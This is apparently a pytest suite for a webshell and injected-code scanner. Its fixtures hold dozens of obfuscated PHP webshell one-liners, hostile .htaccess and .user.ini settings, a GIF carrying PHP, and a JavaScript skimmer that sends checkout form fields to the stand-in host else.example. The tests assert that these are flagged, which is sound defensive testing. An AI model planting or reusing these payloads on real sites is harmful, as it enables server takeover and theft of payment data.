"""Judging files by their bytes: rules, structure and model; with harmless files of our own."""

from __future__ import annotations

import base64
import gzip
import json
import subprocess
import sys
import time
import zlib
from pathlib import Path
from types import SimpleNamespace

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from ungcuu.cli.commands import scan
from ungcuu.core.errors import UsageFault
from ungcuu.detect import heuristics, verdicts
from ungcuu.detect.content import folding, judge, model, reasons, rules, structure, tokens, tree
from ungcuu.remote import pieces

INNER = b"system($_POST['c']);"
PACKED = base64.b64encode(zlib.compress(INNER)[2:-4])
SENT = {
    "plain": b"<?php eval($_POST['x']);",
    "assigned": b"<?php $a = $_GET['x']; $b = trim($a); eval($b);",
    "function": b"<?php function given() { return $_REQUEST['q']; } eval(given());",
    "joined name": b"<?php $f = 'sys' . 'tem'; $f($_GET['x']);",
    "characters": b"<?php $f = chr(115).chr(121).chr(0x73).chr(116).chr(101).chr(109); $f($_COOKIE['x']);",
    "index": b"<?php $t = 'qsaetrzy'; $f = $t[2].$t[1].$t[1].$t[3].$t[5].$t[4]; $f($_POST['x']);",
    "rot13": b"<?php $f = str_rot13('flfgrz'); $f($_POST['x']);",
    "reversed": b"<?php $f = strrev('metsys'); $f($_POST['x']);",
    "replaced": b"<?php $f = str_replace('#', '', 's#y#s#t#e#m'); $f($_POST['x']);",
    "escapes": b'<?php $f = "\\x73\\x79\\163\\x74em"; $f($_POST["x"]);',
    "xor": b"<?php $f = '('^'[' ; $f .= 'ystem'; $f($_POST['x']);",
    "packed": b"<?php eval(gzinflate(base64_decode('" + PACKED + b"')));",
    "packed and named": b"<?php $d = 'base' . '64_decode'; $z = 'gz' . 'inflate'; eval($z($d('" + PACKED + b"')));",
    "callback": b"<?php array_map('assert', array($_POST['x']));",
    "callback by visitor": b"<?php call_user_func($_GET['f'], $_GET['x']);",
    "called by visitor": b"<?php $_GET['a']($_POST['b']);",
    "loop": b"<?php foreach ($_POST as $k => $v) { $k($v); }",
    "hidden input": b"<?php $i = '_PO' . 'ST'; eval(${$i}['x']);",
    "globals": b"<?php $GLOBALS['q'] = 'sys' . 'tem'; $GLOBALS['q']($_POST['x']);",
    "backticks": b"<?php echo `id {$_GET['x']}`;",
    "body": b"<?php eval(file_get_contents('php://input'));",
    "header": b"<?php eval($_SERVER['HTTP_X_THING']);",
    "writes code": b"<?php file_put_contents('news.php', $_POST['text']);",
    "short tag": b"<? eval($_POST['x']);",
    "broken code": b"<?php if ( { eval($_POST['x']); <<<",
    "after a long remark": b"<?php /*" + b" remark" * 80_000 + b"*/ eval($_POST['x']);",
}


@pytest.mark.parametrize("code", SENT.values(), ids=list(SENT))
def test_what_a_visitor_sends_is_followed_to_where_it_runs(code: bytes) -> None:
    """Nothing is run to find it out. Seen failing with the structure's walk taken out."""
    verdict = judge.judge("index.php", code)
    assert verdict.severity in ("high", "critical"), verdict
    assert verdict.reasons
    assert verdict.detectors


CLEAN = {
    "echo": b"<?php echo htmlspecialchars($_GET['name']);",
    "query": b"<?php $id = (int) $_GET['id']; $rows = $db->query('SELECT * FROM news WHERE id = ' . $id);",
    "template": b"<html><?php foreach ($items as $item): ?><li><?= esc($item) ?></li><?php endforeach; ?></html>",
    "class": b"<?php\n/** Runs eval(): `$_GET` */\nclass Page { function exec($q) { return $this->d->exec($q); } }",
    "callback": b"<?php usort($rows, function ($a, $b) { return strcmp($a['name'], $b['name']); });",
    "decode": b"<?php $json = json_decode(base64_decode($token), true);",
    "remark": b"<?php // eval($_POST['x']);\n# system($_GET['c']);\necho 1;",
    "typed": b"<?php file_put_contents($_SERVER['argv'][1] . '.php', $_SERVER['argv'][2]);",
    "xml": b"<?xml version='1.0'?><feed>eval($_POST['x'])</feed>",
}


@pytest.mark.parametrize("code", CLEAN.values(), ids=list(CLEAN))
def test_ordinary_code_is_left_alone(code: bytes) -> None:
    """An alarm on honest code teaches people to look away."""
    verdict = judge.judge("index.php", code)
    assert verdict.severity not in ("high", "critical"), verdict


OTHERS = {
    ".htaccess": b"AddHandler application/x-httpd-php .jpg\n",
    "sub/.htaccess": b"RewriteCond %{HTTP_REFERER} (google|bing) [NC]\nRewriteRule ^ https://else.example/ [R,L]\n",
    ".user.ini": b"auto_prepend_file = /tmp/.cache.png\n",
    "logo.gif": b"GIF89a\x01\x00 <?php eval($_POST['x']); ?>",
    "jquery.js": b"document.write(unescape('"
    + b"".join(b"%%%02x" % one for one in b"<script src=//else.example/x.js>")
    + b"'));",
    "page.js": b"if (document.referrer.match(/google|bing/)) { window.location = 'https://else.example/'; }",
    "pay.js": (
        b"if (location.href.indexOf('checkout') > 0) { setInterval(function () { var f = document.querySelectorAll("
        b"'input, select, textarea'); new Image().src = '//else.example/?' + btoa(f); }, 9); }"
    ),
}


@pytest.mark.parametrize(("name", "data"), OTHERS.items(), ids=list(OTHERS))
def test_files_that_are_no_php_are_judged_too(name: str, data: bytes) -> None:
    """A .htaccess of one line makes a picture run as code."""
    assert judge.judge(name, data).severity == "high"


HARMLESS = {
    ".htaccess": b"RewriteCond %{REQUEST_FILENAME} !-f\nRewriteRule . /index.php [L]\nAddType font/woff2 .woff2\n",
    ".user.ini": b"; auto_prepend_file = /tmp/x\nmemory_limit = 256M\nauto_prepend_file = none\n",
    "logo.gif": b"GIF89a\x01\x00 <?xpacket begin ?>",
    "statistics.html": b"<script>document.write(unescape('%3Cscript src=\"/x.js\"%3E%3C/script%3E'));</script>",
    "guide.md": b"Write `eval` never:\n```php\n<?php eval($_POST['x']);\n```\nand use `$_GET`.\n",
    "app.js": b"fetch('/api').then(r => r.json()).then(rows => document.body.appendChild(render(rows)));",
}


@pytest.mark.parametrize(("name", "data"), HARMLESS.items(), ids=list(HARMLESS))
def test_ordinary_files_that_are_no_php_are_left_alone(name: str, data: bytes) -> None:
    """The same names, as an application brings them."""
    assert judge.judge(name, data).severity == "none"


HUGE = {
    "open remark": b"<?php /*" + b"/*" * 2_000_000,
    "open texts": b"<?php " + b"'" * 4_000_001,
    "backslashes": b"<?php '" + b"\\" * 4_000_001,
    "open brackets": b"<?php " + b"(" * 2_000_000,
    "nested calls": b"<?php eval(" + b"base64_decode(" * 100_000,
    "concatenation": b"<?php $a = 'x'" + b".'x'" * 400_000 + b"; $a();",
    "growing text": b"<?php $a = 'xxxxxxxx';" + b"$a = $a.$a;" * 5000 + b"eval($a);",
    "repeated": b"<?php eval(str_repeat(str_repeat('x', 100000), 100000));",
    "one line": b"<?php " + b"$a($b);" * 600_000,
    "heredocs": b"<?php " + b"<<<A\n" * 400_000,
    "tags": b"<?php ?>" * 400_000,
    "dollars": b"<?php " + b"$" * 2_000_000,
    "htaccess": b"RewriteCond %{HTTP_REFERER} " + b"google" * 400_000,
}


@pytest.mark.parametrize("data", HUGE.values(), ids=list(HUGE))
def test_no_file_takes_long(data: bytes) -> None:
    """A file that is made to be slow would hold the scan up, and with it the alarm on the file beside it."""
    started = time.process_time()
    judge.judge(".htaccess" if data.startswith(b"Rewrite") else "a.php", data)
    assert time.process_time() - started < 8


def test_a_bomb_gives_its_first_bytes_only() -> None:
    """One MB that unpacks to a GB must not fill the controller's memory. Seen failing without the limit."""
    bomb = zlib.compress(b"x" * (64 << 20))
    assert len(folding.inflate(bomb, 15)) <= folding.LIMIT
    assert len(folding.call("gzdecode", [gzip.compress(b"x" * (64 << 20))]) or b"") <= folding.LIMIT


def test_layers_end() -> None:
    """Text that holds code that holds text: it is followed for some layers, and no further."""
    code = INNER
    for _ in range(40):
        code = b"eval(base64_decode('" + base64.b64encode(code) + b"'));"
    assert judge.judge("a.php", b"<?php " + code[: 1 << 20]).severity in ("high", "critical")


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=4000))
def test_any_bytes_get_a_verdict(data: bytes) -> None:
    """Not UTF-8, not closed, not code: nothing that a host sends may end the scan."""
    assert judge.judge("a.php", b"<?php " + data).severity in judge.ORDER


_CODE = (
    "eval ( ) $_POST [ ] 'x' \" . ; $a = base64_decode function f { } return <<<A ?> <?php /* // # ${ \\x41 ` include "
    "^ , => foreach as list array_map pack 'H*' chr 65 -1 ??"
)
_WORDS = st.sampled_from([*_CODE.split(), "\n"])


@settings(max_examples=250, deadline=None)
@given(st.lists(_WORDS, max_size=60))
def test_any_code_gets_a_verdict(words: list[str]) -> None:
    """Pieces of code in any order reach each handler of the walk with children missing."""
    judge.judge("a.php", ("<?php " + " ".join(words)).encode())


@settings(max_examples=100, deadline=None)
@given(st.sampled_from(sorted([*folding._ONE, *folding._MORE])), st.lists(st.binary(max_size=200), max_size=4))
def test_computed_texts_are_bounded_and_never_raise(name: str, given_texts: list[bytes]) -> None:
    """The arguments are the intruder's."""
    assert len(folding.call(name, given_texts) or b"") <= folding.LIMIT


@pytest.mark.parametrize("place", [0, 3 << 20, (9 << 20) - 200])
def test_a_payload_is_found_anywhere_in_a_long_file(tmp_path: Path, place: int) -> None:
    """Only the head was read before: half a megabyte of remarks hid what followed. Seen failing without the windows."""
    line = b"// an ordinary remark of an ordinary file\n"
    text = bytearray(b"<?php\n" + line * ((9 << 20) // len(line)))
    at = 6 + place // len(line) * len(line)
    text[at:at] = b"\neval($_POST['x']);\n"
    path = tmp_path / "long.php"
    path.write_bytes(bytes(text))
    assert judge.judge("long.php", pieces.read(path)).severity == "critical"
    assert judge.judge("long.php", bytes(text)).severity == "critical"
    assert len(pieces.read(path)) < 2 << 20


def test_each_sign_has_its_sentence() -> None:
    """A finding whose reason is a code says nothing to a person."""
    marks = judge.CRITICAL | judge.HIGH | judge.MEDIUM
    named = {name for kind in rules.KINDS if kind != "reach" for name in rules.names(kind)}
    assert (marks | named) <= reasons.SENTENCES.keys()


def test_the_table_is_whole_and_says_where_it_comes_from() -> None:
    """A table that was cut off would judge everything clean."""
    about = json.loads((model.FOLDER / "weights.json").read_text())
    assert len(model.load().weights) == about["features"] > 10_000
    assert about["clean_projects"] >= 15
    assert about["medium"] < about["high"]


def test_the_reasons_name_what_weighed_most() -> None:
    """A person must see why the model says so."""
    code = "<?php eval ( $_POST [ 'x' ] ) ;"
    found = tokens.tokens(code)
    keys = tokens.features(code, found)
    assert "eval" in tokens.named(code, found, keys).values()
    assert "eval ( $_post" in tokens.named(code, found, keys).values()


def test_a_folder_is_judged_and_nothing_is_passed_over(tmp_path: Path) -> None:
    """What can't be read is named; links lead nowhere."""
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "bad.php").write_bytes(SENT["plain"])
    (tmp_path / "good.php").write_bytes(CLEAN["class"])
    (tmp_path / "link.php").symlink_to(tmp_path / "sub" / "bad.php")
    (tmp_path / b"\xff\x1b[31m.php".decode("utf-8", "surrogateescape")).write_bytes(SENT["plain"])
    found = tree.judge_tree(tmp_path).document()
    assert found["files"] == 3
    assert len(found["findings"]) == 2
    assert all(row["severity"] == "critical" and row["reasons"] for row in found["findings"])
    assert "\x1b" not in json.dumps(found, ensure_ascii=False)


def test_known_good_files_are_not_judged(tmp_path: Path) -> None:
    """What is signed as good by its maker needs no opinion, and is counted."""
    (tmp_path / "bad.php").write_bytes(SENT["plain"])
    sums = tmp_path / "sums"
    sums.write_text(f"{tree._sum(tmp_path / 'bad.php')}  bad.php\n")
    found = tree.judge_tree(tmp_path, tree.read_sums(sums))
    assert (found.known, found.findings) == (1, [])


def test_bad_input_is_named(tmp_path: Path) -> None:
    """The place of the mistake, not a stack of calls."""
    (tmp_path / "sums").write_text("not a sum\n")
    with pytest.raises(UsageFault, match="line 1"):
        tree.read_sums(tmp_path / "sums")
    with pytest.raises(UsageFault, match="is not a folder"):
        tree.judge_tree(tmp_path / "missing")


def test_the_walk_is_bounded() -> None:
    """Seen failing without the limit of nodes."""
    found = structure.look(b"<?php eval(1);" + b"$a = $b + $c;" * 50_000)
    assert found.nodes == structure.NODES


@pytest.mark.parametrize(
    ("arguments", "code", "said"),
    [(["--tree", "."], 13, '"severity": "critical"'), ([], 2, "scan --tree FOLDER")],
)
def test_the_command_needs_no_inventory(tmp_path: Path, arguments: list[str], code: int, said: str) -> None:
    """A copy of a website is judged where it lies; neither folder nor host is a mistake that is named."""
    (tmp_path / "bad.php").write_bytes(SENT["plain"])
    command = [sys.executable, "-m", "ungcuu", "--lang", "en", "scan", *arguments, "--json"]
    done = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, check=False, timeout=60)
    assert done.returncode == code, done.stderr
    document = json.loads(done.stdout)
    assert said in json.dumps(document)
    if code == 13:
        assert document["files"] == 1
        assert document["outcome"] == "DONE"


def test_a_folder_is_not_mixed_with_a_host() -> None:
    """Half of what was typed would be passed over in silence."""
    assert scan.VERB.check is not None
    with pytest.raises(UsageFault, match="--tree"):
        scan.VERB.check(SimpleNamespace(options={"tree": "."}))


def test_without_its_libraries_the_short_rules_judge_and_that_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    """Plain Ansible has ansible-core alone: a plugin must load there, and not claim what it did not do."""
    hidden = b"<?php $f = 'as' . 'sert'; $f($_POST['x']);"
    assert verdicts.of_code("/var/www/a.php", hidden).suspicious and verdicts.missing() == ""
    monkeypatch.setattr(verdicts, "_LIBRARIES", ("no_such_library",))
    verdicts.missing.cache_clear()
    try:
        assert verdicts.missing() == "no_such_library"
        assert verdicts.of_code("/var/www/a.php", hidden) == heuristics.judge(hidden)
    finally:
        monkeypatch.undo()
        verdicts.missing.cache_clear()


def test_two_bytes_of_a_font_or_of_compressed_data_are_no_program() -> None:
    """Seen failing without that rule: fonts of two packages were `high`. A whole tag, or a name, still counts."""
    noise = bytes(range(256)) * 40
    assert judge.kind_of("fonts/a.z", noise + b"<? (@$a^$b)" + noise) == "image"
    assert judge.kind_of("fonts/a.z", noise + b"<?PHP eval($_POST[1]);") == "php"
    assert judge.kind_of("a.php", noise + b"<?=`$_GET[1]`?>") == "php"
